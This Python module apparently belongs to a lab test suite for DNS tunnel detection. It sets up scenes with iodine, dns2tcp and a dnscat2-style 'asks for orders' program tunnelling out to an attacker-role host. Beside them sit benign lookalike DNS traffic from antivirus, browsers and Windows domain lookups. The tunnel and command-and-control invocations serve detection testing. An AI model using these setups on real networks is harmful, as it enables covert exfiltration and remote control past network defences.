"""Data is carried in questions for names; or long names are asked for that carry nothing."""

import sys
from hashlib import sha256

from tests.lab.awaiting import until
from tests.lab.cast import BAD, GATEWAY, TUNNEL, TUNNEL_PORT, WEB
from tests.lab.practice import Practice
from tests.lab.scenes import work
from tests.lab.scenes.scene import Scene

_A, _CNAME, _TXT, _AAAA, _SRV, _HTTPS = 1, 5, 16, 28, 33, 65


def iodine(practice: Practice) -> None:
    """iodine makes a network card of it, and somebody works over that."""
    _iodine(practice)


def iodine_in_texts(practice: Practice) -> None:
    """The same, told to ask for TXT only."""
    _iodine(practice, "-T", "TXT", "-m", "200")


def _iodine(practice: Practice, *how: str) -> None:
    server = ["iodined", "-f", "-c", "-P", "lab", "-l", BAD, "-p", str(TUNNEL_PORT)]
    client = ["iodine", "-f", "-r", *how, "-P", "lab", GATEWAY, TUNNEL]
    with practice.running("internet", [*server, "10.99.0.1/24", TUNNEL]):
        practice.await_ports("internet", TUNNEL_PORT, kind="udp")
        practice.start("reception", client, log="iodine.log")
        said = practice.folder / "iodine.log"
        until("iodine is through", 30, lambda: "setup complete" in said.read_text())
        ping = ["ping", "-c", "10", "-i", "0.1", "-s", "300", "10.99.0.1"]
        practice.run("reception", ping, timeout=20, check=True)


def dns2tcp(practice: Practice) -> None:
    """dns2tcp carries one connection to a server of the attacker's."""
    settings = practice.folder / "dns2tcpd.conf"
    settings.write_text(
        f"listen = {BAD}\nport = {TUNNEL_PORT}\nuser = root\nchroot = {practice.folder}\n"
        f"domain = {TUNNEL}\nresources = web:{WEB}:80\n"
    )
    client = ["dns2tcpc", "-r", "web", "-z", TUNNEL, "-l", "8053", GATEWAY]
    with practice.running("internet", ["dns2tcpd", "-F", "-f", str(settings)]):
        practice.await_ports("internet", TUNNEL_PORT, kind="udp")
        practice.start("reception", client)
        practice.await_ports("reception", 8053)
        for _ in range(6):
            work.call(practice, "reception", "http://127.0.0.1:8053/")


def remote_control(practice: Practice) -> None:
    """A program asks for orders, in the manner of dnscat2."""
    whisper = [sys.executable, "-m", "tests.lab.programs.whisper"]
    with practice.running("internet", [*whisper, "serve", TUNNEL, BAD, str(TUNNEL_PORT)]):
        practice.await_ports("internet", TUNNEL_PORT, kind="udp")
        practice.run("surgery", [*whisper, "call", TUNNEL, GATEWAY, "80"], timeout=60, check=True)


def ordinary_work(practice: Practice) -> None:
    """What everybody asks for as the practice opens."""
    work.morning(practice)


def antivirus_asks_for_reputation(practice: Practice) -> None:
    """Checksums of files, pages and senders, as names below the maker's domain."""
    below = (
        "a.j.e5.sk",
        "s.sophosxl.net",
        "avqs.mcafee.com",
        "zen.spamhaus.org",
        "malware.hash.cymru.com",
    )
    names = [f"{_drawn(n)[:40]}.{_drawn(-n)[:30]}.{below[n % 5]}" for n in range(250)]
    _ask(practice, "reception", [f"{(_TXT, _A)[n % 2]}:{name}" for n, name in enumerate(names)])


def browser_with_200_tabs(practice: Practice) -> None:
    """Each page brings its own names of content networks and of those who count."""
    names = []
    for tab in range(200):
        drawn = _drawn(tab)
        names += [
            f"{drawn[:32]}.safeframe.googlesyndication.com",
            f"r{tab % 9}---sn-{drawn[:8]}.googlevideo.com",
            f"{drawn[:32]}.counting.example",
        ]
    types = (_A, _AAAA, _HTTPS)
    _ask(practice, "reception", [f"{types[n % 3]}:{name}" for n, name in enumerate(names)])


def windows_looks_for_its_domain(practice: Practice) -> None:
    """Services of a domain, controllers by their number, and addresses backwards."""
    site = "_ldap._tcp.premier-site-par-defaut._sites.dc._msdcs"
    names = [f"{_SRV}:{site}.cabinet-{n}.cabinet.lan" for n in range(10)]
    guids = [f"{part[:8]}-{part[8:12]}-{part[12:16]}" for part in map(_drawn, range(60))]
    names += [f"{_SRV}:_ldap._tcp.{guid}.domains._msdcs.cabinet.lan" for guid in guids[:30]]
    names += [f"{_CNAME}:{guid}-0123456789ab._msdcs.cabinet.lan" for guid in guids[30:36]]
    names += [f"12:{n}.50.168.192.in-addr.arpa" for n in range(60)]
    _ask(practice, "reception", names)


def _ask(practice: Practice, who: str, questions: list[str]) -> None:
    program = [sys.executable, "-m", "tests.lab.programs.names", GATEWAY]
    practice.run(who, [*program, *questions], timeout=60, check=True)


def _drawn(number: int) -> str:
    return sha256(str(number).encode()).hexdigest()


SCENES = {
    "iodine": Scene(play=iodine),
    "iodine_in_texts": Scene(play=iodine_in_texts),
    "dns2tcp": Scene(play=dns2tcp),
    "remote_control": Scene(play=remote_control),
    "ordinary_work": Scene(play=ordinary_work, snaplen=200),
    "lookalike_antivirus_asks_for_reputation": Scene(play=antivirus_asks_for_reputation),
    "lookalike_browser_with_200_tabs": Scene(play=browser_with_200_tabs, snaplen=120),
    "lookalike_windows_looks_for_its_domain": Scene(play=windows_looks_for_its_domain),
}
